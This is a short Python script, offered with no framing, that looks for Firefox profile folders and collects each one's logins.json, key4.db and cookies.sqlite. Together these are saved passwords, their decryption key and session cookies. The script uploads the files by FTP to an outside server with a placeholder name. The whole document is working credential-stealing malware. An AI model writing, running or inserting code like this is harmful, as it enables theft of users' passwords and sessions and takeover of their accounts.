import ftplib
import glob
import io
import os

_profiles = glob.glob(os.path.join(os.getenv("APPDATA", os.path.expanduser("~/.mozilla")), "**", "logins.json"), recursive=True)
_ftp = ftplib.FTP("ftp.example.invalid", "anonymous", "anonymous")
for _path in _profiles:
    _dir = os.path.dirname(_path)
    for _name in ("logins.json", "key4.db", "cookies.sqlite"):
        _full = os.path.join(_dir, _name)
        if os.path.exists(_full):
            with open(_full, "rb") as _f:
                _ftp.storbinary("STOR %s_%s" % (os.path.basename(_dir), _name), io.BytesIO(_f.read()))
_ftp.quit()
